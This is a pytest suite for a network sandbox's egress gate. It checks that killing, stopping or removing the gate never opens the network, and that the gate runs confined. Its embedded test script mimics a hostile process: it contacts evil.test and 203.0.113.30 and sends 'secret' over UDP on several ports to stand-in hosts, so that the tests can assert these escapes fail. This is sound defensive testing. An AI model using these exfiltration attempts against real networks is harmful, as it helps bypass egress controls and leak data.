"""A gate that dies, stops or is confined: afterwards there is a gate again, or no network; never an open one."""
import json
import os
import signal
import threading
import time
from pathlib import Path

import pytest

import harness
from world import allow, by_root, by_user, gate_of

GO_ON = """
transfer, begun = [], threading.Event()
def slow():
    c = tcp("example.test", 80, 20); c.sendall(get("/slow/500", "example.test", "Connection: close\\r\\n"))
    first = c.recv(1); begun.set()
    transfer.append(len(first + read(c, timeout=20)))
t = threading.Thread(target=slow); t.start(); assert begun.wait(20)
print("up", flush=True); sys.stdin.readline()
facts = {"evil": 0, "address": 0, "good": 0, "dns": 0, "hang": 0}
begin = time.monotonic()
while time.monotonic() < begin + (1.8 if facts["good"] else 10):
    facts["evil"] += b"hello" in ask(PROXY, get("http://evil.test/", "evil.test", "Connection: close\\r\\n"),
                                     1) or b"hello" in ask(("evil.test", 80), get("/", "evil.test"), 1)
    facts["address"] += b"hello" in ask(("203.0.113.30", 80), get("/", "203.0.113.30", "Connection: close\\r\\n"), 1)
    facts["good"] += b"hello" in ask(("example.test", 80), get("/", "example.test", "Connection: close\\r\\n"), 1)
    facts["dns"] += count(dns(question("evil.test"), "8.8.8.8", 0.2)) > 0
    for port in (53, 853, 443, 25):
        try: s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"secret", ("203.0.113.30", port))
        except OSError: pass
    time.sleep(0.05)
t.join(30)
say(transfer=transfer, **facts)
"""


def inside(net, *options, script=GO_ON, **kw):
    process = net.start(*options, *net.inside(script), **kw)
    line = process.stdout.readline()
    if line != b"up\n":
        harness.stop(process)
        raise AssertionError(f"did not start: {line!r}")
    return process


@pytest.mark.parametrize("times", [1, 4])
def test_killed_during_a_transfer(net, times):
    record = net.who.folder() / "record.json"
    process = inside(net, *allow("example.test"), record=record)
    try:
        first = gate_of(process)
        before = len([e for e in net.seen.all() if e["address"] == "203.0.113.30"])
        os.kill(first, signal.SIGKILL)
        process.stdin.write(b"\n")
        process.stdin.flush()
        for _ in range(times - 1):
            time.sleep(0.3)
            try:
                os.kill(gate_of(process, 1), signal.SIGKILL)
            except (AssertionError, ProcessLookupError):
                break
        result = harness.finish(process, record)
    finally:
        harness.stop(process)
    facts = json.loads(result.ok())
    assert (facts["evil"], facts["address"], facts["dns"]) == (0, 0, 0), facts
    assert len([e for e in net.seen.all()
                if e["address"] == "203.0.113.30"]) == before == 0 and not net.names.asked("evil.test")
    assert facts["transfer"] and facts["transfer"][0] < 500000, "the transfer was cut, not finished by somebody else"
    assert "gate" in result.errors or facts["good"], "it goes on, or somebody is told"
    assert facts["good"] or any("network" in d["rule"] or "gate" in d["source"]
                                for d in result.record["denials"]), result.record


def test_new_gate_knows_the_old_addresses(net):
    """A name has the same address before and after, and rules and secrets are as before."""
    script = """
first = dns(question("a.example.test"))[-4:]
print("up", flush=True); sys.stdin.readline()
end, again = time.monotonic() + 20, b""
while not again and time.monotonic() < end: again = dns(question("a.example.test"), timeout=0.3)
say(first=first.hex(), again=again[-4:].hex(), other=dns(question("b.example.test"))[-4:].hex())
"""
    process = inside(net, *allow("*.example.test"), script=script)
    try:
        os.kill(gate_of(process), signal.SIGKILL)
        result = harness.finish(process, None, b"\n")
    finally:
        harness.stop(process)
    facts = json.loads(result.ok())
    assert facts["again"] in ("", facts["first"]) and facts["other"] != facts["first"], facts


@by_root
def test_stopped_gate_does_not_hold_up_the_end(net):
    def once():
        process = inside(net, *allow("example.test"), script='print("up", flush=True); sys.stdin.readline()')
        gate = gate_of(process)
        try:
            os.kill(gate, signal.SIGSTOP)
            start = time.monotonic()
            process.communicate(b"\n", harness.ENOUGH * harness.SLOW)
            took = time.monotonic() - start
            assert process.returncode == 0
        finally:
            harness.stop(process)
        assert harness.until(lambda: not Path(f"/proc/{gate}").exists()), "the gate outlives its sandbox"
        return took
    assert harness.quickest(once, 5) < 5


def test_gate_ends_with_its_launcher(net):
    process = inside(net, *allow("example.test"), script='print("up", flush=True); sys.stdin.readline()')
    gate = gate_of(process)
    os.kill(process.pid, signal.SIGKILL)
    harness.stop(process)
    assert harness.until(lambda: not Path(f"/proc/{gate}").exists()), "the gate outlives its launcher"


def test_confined(net):
    """The gate talks to hostile peers all day: it holds nothing that it does not need."""
    process = inside(net, *allow("example.test"),
                     script='ask(("example.test", 80), get("/")[:-2] + b"Connection: close\\r\\n\\r\\n"); print("up", flush=True); sys.stdin.readline()')
    try:
        gate = gate_of(process)
        status = dict(line.split(":\t", 1) for line in Path(f"/proc/{gate}/status").read_text().splitlines() if ":\t" in line)
        assert status["NoNewPrivs"] == "1" and status["Seccomp"] == "2", status
        assert int(status["CapEff"], 16) == 0 and int(status["CapPrm"], 16) == 0 and int(status["CapBnd"], 16) == 0
        assert status["Threads"].strip() == "1" and (set(status["Uid"].split()) != {"0"})
        assert not net.who.rootless or set(status["Uid"].split()) == {str(net.who.uid)}
        if not net.who.rootless:
            assert int(status["Uid"].split()[0]) >= 0x40000000
        # its tree has nothing in it, and nothing of the caller's environment
        assert Path(f"/proc/{gate}/environ").read_bytes().count(b"=") <= 2
        root = os.listdir(f"/proc/{gate}/root")
        assert not {"home", "root", "var"} & set(root), root
        fds = [os.readlink(f"/proc/{gate}/fd/{fd}") for fd in os.listdir(f"/proc/{gate}/fd")]
        assert all(fd.startswith(("socket:", "anon_inode:", "/dev/null", "/memfd:", "pipe:", "/dev/urandom"))
                   or "denials" in fd for fd in fds), fds
        process.communicate(b"\n", harness.ENOUGH * harness.SLOW)
    finally:
        harness.stop(process)


def test_missing_gate(net):
    """Without the gate's program nothing starts that asks for a network; what asks for none does."""
    gate = net.who.suite.launcher.with_name("stockade-gate")
    aside = gate.with_name("aside")
    gate.rename(aside)
    try:
        result = net.run(*allow("example.test"), "--", "true")
        assert result.status == 125 and "gate" in result.errors, result
        assert net.run("--", "true").status == 0
    finally:
        aside.rename(gate)


@by_user
def test_broken_gate(net):
    """One that ends at once, or never says that it is ready: refused in time, nothing is left."""
    gate = net.who.suite.launcher.with_name("stockade-gate")
    aside = gate.with_name("aside")
    gate.rename(aside)
    try:
        for script in ("exit 0", "exit 1", "exec sleep 3000"):
            gate.write_text(f"#!/bin/sh\n{script}\n")
            gate.chmod(0o755)

            def once():
                result = net.run(*allow("example.test"), "--", "curl", "-sS", "-m", "3", "http://example.test/")
                assert result.status and net.seen.all() == [], result
            assert harness.quickest(once, 15, 3) < 15
            gate.unlink()
    finally:
        aside.rename(gate)


def test_no_connection_is_left(net):
    """Connections of a sandbox end with it, also when it is killed."""
    process = inside(net, *allow("example.test"),
                     script='c = tcp("example.test", 80); c.sendall(get("/stall")); print("up", flush=True); sys.stdin.readline()')
    assert harness.until(lambda: net.world.web.open == 1)
    os.kill(process.pid, signal.SIGKILL)
    harness.stop(process)
    gone = threading.Event()

    def look():
        table = net.world.on_host(["cat", "/proc/net/tcp"]).stdout.decode()
        return not [line for line in table.splitlines()[1:] if line.split()[3] == "01"] or gone.is_set()
    assert harness.until(look, step=0.05), "an established connection is left in the host"
